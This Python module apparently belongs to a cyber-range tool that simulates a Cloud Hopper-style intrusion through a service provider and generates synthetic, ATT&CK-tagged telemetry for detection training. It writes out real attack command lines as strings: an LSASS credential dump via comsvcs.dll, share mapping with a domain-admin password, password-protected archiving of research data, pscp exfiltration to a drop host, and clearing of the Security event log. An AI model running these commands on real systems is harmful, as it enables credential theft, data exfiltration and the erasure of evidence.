"""One intrusion through a provider, in the manner of Cloud Hopper.

After TA17-117A, TA18-276A and PwC's report of 2017: (1) the provider's VPN credentials from a foreign address
at night, (2) the jump host, (3) a look around, (4) credentials out of memory, (5) a domain administrator's
credentials given for the file server: the switch, (6) its administrative share, (7) an archive with a password
made by WMI in a folder nobody looks at, (8) copied to the jump host, (9) sent out, (10) the file server's log
cleared.
"""

from __future__ import annotations

import random

from countersign.range.demo.clock import Act
from countersign.range.demo.desktops import inside, leave, rdp
from countersign.range.demo.estate import Estate
from countersign.range.demo.footholds import Foothold
from countersign.range.demo.going import Going
from countersign.range.demo.logons import subject_of
from countersign.range.demo.programs import CMD, connects, creates, opens_lsass, run
from countersign.range.demo.remoting import finish, wmi
from countersign.range.demo.shares import Mapping, map_share, touch, unmap
from countersign.range.demo.spec import IntrusionSpec, clock_time
from countersign.range.demo.truth import TrueVisit
from countersign.range.demo.tunnels import dial_in, hang_up, outside, refused

SYSTEM32 = r"C:\Windows\System32"
STAGE = r"C:\PerfLogs"
PART_MEGABYTES = 200
LOOK_AROUND = (
    (rf"{SYSTEM32}\whoami.exe /all", "T1033"),
    (rf'{SYSTEM32}\net.exe group "Domain Admins" /domain', "T1069.002"),
    (rf"{SYSTEM32}\nltest.exe /dclist:", "T1018"),
    (rf"{SYSTEM32}\net.exe view", "T1135"),
)


def plan_intrusion(estate: Estate) -> None:
    """Puts the intrusion on the schedule, if there is one."""
    plan = estate.spec.intrusion
    if plan is None:
        return
    begin = estate.at(plan.day - 1, clock_time(plan.at))
    estate.schedule.begin(begin, _intrusion(estate, estate.rng("intrusion"), plan))


def _intrusion(estate: Estate, rng: random.Random, plan: IntrusionSpec) -> Act[None]:
    provider = next(p for p in estate.spec.providers if p.name == plan.provider)
    gateway = estate.gateways[provider.gateway]
    account, admin = estate.accounts[plan.account], estate.accounts[plan.switch_to]
    target = estate.machines[plan.target]
    origin = str(plan.origin)
    # (1)
    for _ in range(2):
        refused(rng, gateway, account.name, origin)
        yield rng.uniform(8, 30)
    visit = TrueVisit(provider.name, "unknown", account.name, "person", True, estate.schedule.now)
    tunnel = dial_in(estate, rng, visit, gateway, account, origin)
    estate.truth.step(visit, gateway.spec.name, "stolen VPN credentials used", "T1133", *tunnel.hop.records)
    yield rng.uniform(30, 60)
    # (2)
    start = outside(tunnel, rng, plan.client)
    desktop = yield from rdp(estate, rng, visit, start, estate.machines[plan.jump], account)
    estate.truth.step(visit, plan.jump, "remote desktop", "T1021.001", *desktop.hop.records)
    yield rng.uniform(20, 60)
    # (3) and (4)
    shell, places = run(estate, rng, desktop.session, f'"{CMD}"', desktop.shell)
    desktop.hop.note(*places)
    here = inside(desktop)
    here.program = shell
    yield from _look_and_dump(estate, rng, visit, here)
    # (5) and (6)
    going = Going(estate, rng, visit, here, target, admin)
    mapping = yield from _switch(going, plan)
    # (7)
    parts = yield from _archive(going, plan)
    # (8)
    yield from _collect(estate, rng, visit, here, mapping, parts, plan)
    # (9)
    yield from _send(estate, rng, visit, here, plan)
    # (10)
    yield from _cover(going)
    yield rng.uniform(60, 120)
    yield from leave(estate, rng, desktop)
    yield rng.uniform(5, 15)
    hang_up(estate, tunnel, 41_000_000, 6_200_000)
    estate.truth.end(visit)


def _look_and_dump(estate: Estate, rng: random.Random, visit: TrueVisit, here: Foothold) -> Act[None]:
    session, shell, hop = here.session, here.program, visit.hops[-1]
    if session is None or shell is None:
        raise RuntimeError("the intruder sits at the jump host")
    for command, technique in LOOK_AROUND:
        yield rng.uniform(8, 45)
        _, places = run(estate, rng, session, command, shell)
        hop.note(*places)
        estate.truth.step(visit, here.name, command, technique, *places)
    yield rng.uniform(60, 200)
    dump = rf"{SYSTEM32}\rundll32.exe {SYSTEM32}\comsvcs.dll, MiniDump 724 {STAGE}\d.dmp full"
    program, places = run(estate, rng, session, dump, shell)
    found = [*places, opens_lsass(session, program), creates(session, program, rf"{STAGE}\d.dmp")]
    hop.note(*found)
    estate.truth.step(visit, here.name, dump, "T1003.001", *found)
    yield rng.uniform(200, 400)


def _switch(going: Going, plan: IntrusionSpec) -> Act[Mapping]:
    estate, rng, visit, target, admin = going.estate, going.rng, going.visit, going.target, going.account
    command = (
        rf"{SYSTEM32}\net.exe use \\{target.fqdn}\{plan.share} /user:{estate.domain}\{admin.name} Winter2026!"
    )
    mapping = yield from map_share(going, plan.share, command)
    estate.truth.step(visit, target.name, command, "T1021.002", *mapping.hop.records)
    for folder in ("\\", "Shares", "Shares\\Finance", "Shares\\Research"):
        yield rng.uniform(6, 30)
        place = touch(estate, mapping, folder)
        estate.truth.step(visit, target.name, f"listed {folder}", "T1083", place)
    return mapping


def _archive(going: Going, plan: IntrusionSpec) -> Act[int]:
    estate, rng, visit, target = going.estate, going.rng, going.visit, going.target
    parts = max(1, -(-plan.megabytes // PART_MEGABYTES))
    command = rf"{STAGE}\rar.exe a -r -m1 -hpQz71kkd -v{PART_MEGABYTES}m {STAGE}\s.rar D:\Shares\Research"
    yield rng.uniform(60, 120)
    remote = yield from wmi(going, command)
    found = [*remote.places]
    for part in range(1, parts + 1):
        yield rng.uniform(40, 90)
        created = creates(remote.session, remote.program, rf"{STAGE}\s.part{part:02d}.rar")
        found += [created] if created else []
    remote.hop.note(*found[len(remote.places) :])
    estate.truth.step(visit, target.name, command, "T1560.001", *found)
    finish(estate, rng, remote)
    return parts


def _collect(
    estate: Estate,
    rng: random.Random,
    visit: TrueVisit,
    here: Foothold,
    mapping: Mapping,
    parts: int,
    plan: IntrusionSpec,
) -> Act[None]:
    session, shell = here.session, here.program
    if session is None or shell is None:
        raise RuntimeError("the intruder sits at the jump host")
    source = rf"\\{mapping.session.machine.fqdn}\{plan.share}\PerfLogs"
    command = rf"{SYSTEM32}\Robocopy.exe {source} {STAGE} s.part*.rar /R:1"
    program, places = run(estate, rng, session, command, shell)
    visit.hops[1].note(*places)
    found = [*places]
    for part in range(1, parts + 1):
        yield rng.uniform(10, 25)
        name = f"s.part{part:02d}.rar"
        found.append(touch(estate, mapping, f"PerfLogs\\{name}"))
        created = creates(session, program, rf"{STAGE}\{name}")
        found += [created] if created else []
    unmap(estate, rng, mapping, plan.megabytes * 20_000, plan.megabytes * 1_000_000)
    estate.truth.step(visit, here.name, command, "T1039", *found)
    yield rng.uniform(30, 60)


def _send(
    estate: Estate, rng: random.Random, visit: TrueVisit, here: Foothold, plan: IntrusionSpec
) -> Act[None]:
    session, shell = here.session, here.program
    if session is None or shell is None:
        raise RuntimeError("the intruder sits at the jump host")
    size = plan.megabytes * 1_000_000
    command = rf"{STAGE}\pscp.exe -P 443 -batch {STAGE}\s.part*.rar w@{plan.drop}:/srv/in/"
    program, places = run(estate, rng, session, command, shell)
    flow = estate.zeek.begin(here.ip, here.next_port(), str(plan.drop), 443, "ssh")
    connected = connects(estate, session, program, flow)
    yield 1.2
    banner = ["SSH-2.0-PuTTY_Release_0.70", "SSH-2.0-OpenSSH_8.4p1", "aes256-ctr", "hmac-sha2-256"]
    more = ["none", "curve25519-sha256", "ssh-ed25519", "11:b2:7e:94:0a:5d"]
    seen = estate.zeek.entry("ssh", flow, [2, True, 1, None, *banner, *more])
    yield size / 1_100_000
    sent = estate.zeek.end(flow, size, size // 400)
    visit.hops[1].note(*places, connected)
    estate.truth.step(visit, here.name, command, "T1048.002", *places, connected, seen, sent)
    yield rng.uniform(30, 90)


def _cover(going: Going) -> Act[None]:
    estate, rng, visit, target = going.estate, going.rng, going.visit, going.target
    command = rf"{SYSTEM32}\wevtutil.exe cl Security"
    remote = yield from wmi(going, command)
    cleared = target.windows.cleared(subject_of(estate, remote.session))
    remote.hop.note(cleared)
    estate.truth.step(visit, target.name, command, "T1070.001", *remote.places, cleared)
    yield rng.uniform(1, 4)
    finish(estate, rng, remote)
